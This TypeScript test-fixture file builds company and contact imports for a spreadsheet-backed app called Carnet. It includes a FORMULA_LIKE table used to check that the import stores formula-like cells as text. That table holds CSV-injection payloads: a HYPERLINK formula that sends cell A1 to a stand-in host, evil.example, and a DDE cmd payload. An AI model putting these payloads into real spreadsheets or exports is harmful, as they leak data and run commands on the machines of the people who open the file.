/**
 * What the host tests of imports share (test/gas/import.test.ts, test/office/import.test.ts): the
 * imports they run — chunks of new companies and contacts, an upsert over existing companies, a
 * file of formula-like text, a ten-row file in two chunks —, a snapshot of a fake's cells, and the
 * table their costs are printed as.
 */

/** A chunk of `n` new companies (Name, Phone, City) over 5 cities the import creates. */
export const companiesChunk = (n: number) => ({
  directory: 'companies',
  source: { kind: 'rows', rows: [['Name', 'Phone', 'City'], ...Array.from({ length: n }, (_, i) => [`Imported ${i}`, `+33 1 40 00 ${String(i % 100).padStart(2, '0')} ${String(Math.floor(i / 100)).padStart(2, '0')}`, `City ${i % 5}`])] },
  createMissing: ['city'],
  chunk: { firstRow: 2, totalRows: n },
});

/** A chunk of `n` new contacts (Full name, Company, Email) at 10 companies the import creates. */
export const contactsChunk = (n: number) => ({
  directory: 'contacts',
  source: { kind: 'rows', rows: [['Full name', 'Company', 'Email'], ...Array.from({ length: n }, (_, i) => [`New person ${i}`, `New Co ${i % 10}`, `new${i}@new.example`])] },
  createMissing: ['company'],
  chunk: { firstRow: 2, totalRows: n },
});

/**
 * An upsert of `n` rows over companies named `existing(0)`, `existing(1)`…: the first n/2 get a new
 * phone and email (rows next to each other), the other n/2 rows are new companies in 3 cities the
 * import creates.
 */
export const upsert = (n: number, existing: (i: number) => string) => ({
  directory: 'companies',
  mode: 'upsert',
  source: {
    kind: 'rows',
    rows: [
      ['Name', 'Phone', 'Email', 'City'],
      ...Array.from({ length: n }, (_, i) => (i < n / 2 ? [existing(i), `+33 2 40 00 00 ${String(i % 100).padStart(2, '0')}`, `sales${i}@company${i}.example`, ''] : [`Upserted ${i}`, '+33 3 40 00 00 00', '', `Town ${i % 3}`])),
    ],
  },
  createMissing: ['city'],
});

/**
 * Name and Comments cells that start with what a spreadsheet reads as a formula: `=`, `+`, `-`,
 * `@`, a tab, a carriage return, and Carnet's own CSV guard (`'=…`, which the import takes off).
 * Each row: the two cells as in the file, then the two values Carnet stores (a text field drops
 * leading whitespace, so a tab or CR before `=` leaves the `=` first: still text to keep).
 */
export const FORMULA_LIKE: [string, string, string, string][] = [
  ['=HYPERLINK("https://evil.example/?"&A1,"Open")', '=1+1', '=HYPERLINK("https://evil.example/?"&A1,"Open")', '=1+1'],
  ['+33 6 12 34 56 78 Ltd', '+1+1', '+33 6 12 34 56 78 Ltd', '+1+1'],
  ['-2+3 Partners', '-2', '-2+3 Partners', '-2'],
  ['@SUM(A1:A9)', '@mention', '@SUM(A1:A9)', '@mention'],
  ["\t=cmd|' /C calc'!A0", '\t=2+2', "=cmd|' /C calc'!A0", '=2+2'],
  ['\r=3+3 Co', '\r+4', '=3+3 Co', '+4'],
  ["'=Guarded", "'+guarded", '=Guarded', '+guarded'],
];

const csvField = (s: string) => `"${s.replace(/"/g, '""')}"`;

/** `import.apply` of FORMULA_LIKE as a CSV file (every field quoted, so tabs and CRs stay inside their cell). */
export const formulaLikeImport = {
  directory: 'companies',
  source: { kind: 'text', name: 'evil.csv', text: ['Name,Comments', ...FORMULA_LIKE.map(([name, note]) => `${csvField(name)},${csvField(note)}`)].join('\r\n') + '\r\n' },
};

/** Ten companies over 2 cities, as the two chunks of one file: rows 2–6, then rows 7–11 into the first chunk's batch. */
export function twoChunks() {
  const header = ['Name', 'Phone', 'City'];
  const rows = Array.from({ length: 10 }, (_, i) => [`Chunked ${i}`, `+33 1 40 00 00 ${String(i).padStart(2, '0')}`, `City ${i % 2}`]);
  const request = (part: string[][], firstRow: number, batch?: string) => ({
    directory: 'companies',
    source: { kind: 'rows', rows: [header, ...part], name: 'chunked.xlsx', sheet: 'Clients' },
    createMissing: ['city'],
    chunk: { firstRow, totalRows: rows.length },
    ...(batch ? { batch } : {}),
  });
  return { first: request(rows.slice(0, 5), 2), second: (batch: string) => request(rows.slice(5), 7, batch) };
}

/** A title, then one line per step: its cost at the small size and at the large one. */
export function costTable(title: string, steps: [string, number, number][]): string {
  return [title, ...steps.map(([what, small, large]) => `  ${what.padEnd(44)} ${String(small).padStart(4)} ${String(large).padStart(5)}`)].join('\n');
}

/** A cell as both fakes store it: a value, and a formula (with its `=`) when it holds one. */
interface StoredCell {
  value: unknown;
  formula?: string;
}

/**
 * Every cell of every sheet but Carnet's own (`_carnet…`), as the fake stores it: the value, or
 * `{ formula }`. Trailing empty cells and rows are left out: a deleted row leaves nothing behind.
 */
export function storedCells(sheets: readonly { name: string; rows: readonly (readonly (StoredCell | undefined)[] | undefined)[] }[]): Record<string, unknown[][]> {
  const out: Record<string, unknown[][]> = {};
  for (const s of sheets) {
    // Carnet's own sheets: its settings and logs (the audit log grows with every write).
    if (s.name.toLowerCase().startsWith('_carnet') || s.name === 'Audit') continue;
    const rows = s.rows.map((row) => {
      const line = Array.from(row ?? [], (c) => (c?.formula !== undefined ? { formula: c.formula } : (c?.value ?? '')));
      let n = line.length;
      while (n > 0 && line[n - 1] === '') n--;
      return line.slice(0, n);
    });
    while (rows.length > 0 && rows[rows.length - 1]!.length === 0) rows.pop();
    out[s.name] = rows;
  }
  return out;
}
